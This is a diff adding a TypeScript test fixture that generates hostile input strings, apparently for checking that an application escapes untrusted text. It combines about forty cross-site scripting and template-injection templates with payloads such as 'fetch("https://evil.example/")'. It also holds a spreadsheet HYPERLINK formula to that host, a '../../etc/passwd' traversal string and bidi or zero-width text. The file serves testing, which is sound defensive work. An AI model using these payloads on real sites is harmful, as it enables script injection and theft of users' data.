@@ -1,0 +1,65 @@
+/** Ways to get code out of a text, each a template: `@` becomes the code. */
+const ways = [
+  '<script>@</script>',
+  '<img src=x onerror=@>',
+  '<svg onload=@>',
+  '<svg><script>@</script></svg>',
+  '<body onload=@>',
+  '<iframe srcdoc="<script>@</script>">',
+  '<iframe src="javascript:@">',
+  '<a href="javascript:@">open</a>',
+  '<object data="javascript:@">',
+  '<embed src="javascript:@">',
+  '<details open ontoggle=@>',
+  '<input autofocus onfocus=@>',
+  '<video><source onerror=@></video>',
+  '<audio src=x onerror=@>',
+  '<marquee onstart=@>',
+  '<math><mtext><style><img src=x onerror=@></style></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=@>">',
+  '<template><img src=x onerror=@></template>',
+  '<style>@import "javascript:@"</style>',
+  '<link rel=stylesheet href="https://evil.example/@">',
+  '<meta http-equiv=refresh content="0;url=javascript:@">',
+  '<base href="https://evil.example/"><script src=x></script>',
+  '<form action="javascript:@"><button>go</button></form>',
+  '<img src="https://evil.example/?@">',
+  '"><img src=x onerror=@>',
+  "'><img src=x onerror=@>",
+  '`><img src=x onerror=@>',
+  '</title><script>@</script>',
+  '</textarea><script>@</script>',
+  '</script><script>@</script>',
+  '<!--><script>@</script>-->',
+  '<![CDATA[<script>@</script>]]>',
+  '{{constructor.constructor("@")()}}',
+  '${@}',
+  '#{@}',
+  '<%= @ %>',
+  'javascript:@',
+  'data:text/html,<script>@</script>',
+  '\\u003cscript\\u003e@\\u003c/script\\u003e',
+  '&lt;script&gt;@&lt;/script&gt;',
+  '%3Cscript%3E@%3C/script%3E',
+  '<0>@</0>',
+] as const;
+const codes = ['hit()', 'window.hit()', 'alert(1)', 'top.hit&&top.hit()', 'fetch("https://evil.example/")'] as const;
+
+/** Texts that turn around, hide or break what stands beside them. */
+const awkward = [
+  '\u202Etxet desrever\u202C',
+  '\u2067isolated\u2069',
+  '\u200B\u200C\u200D\uFEFF',
+  'Z\u0351\u036B\u0343\u036A\u0302a\u0364\u0353l\u0360\u033Ag\u0327o\u0321'.repeat(5),
+  'Ы'.repeat(300),
+  '=HYPERLINK("https://evil.example/","x")',
+  '../../etc/passwd',
+  'CON.pdf',
+  '😀'.repeat(40),
+] as const;
+
+/** Every way with every code, and the awkward ones. */
+export const hostileTexts: readonly string[] = [
+  ...ways.flatMap(way => codes.map(code => way.replaceAll('@', code))),
+  ...awkward,
+];
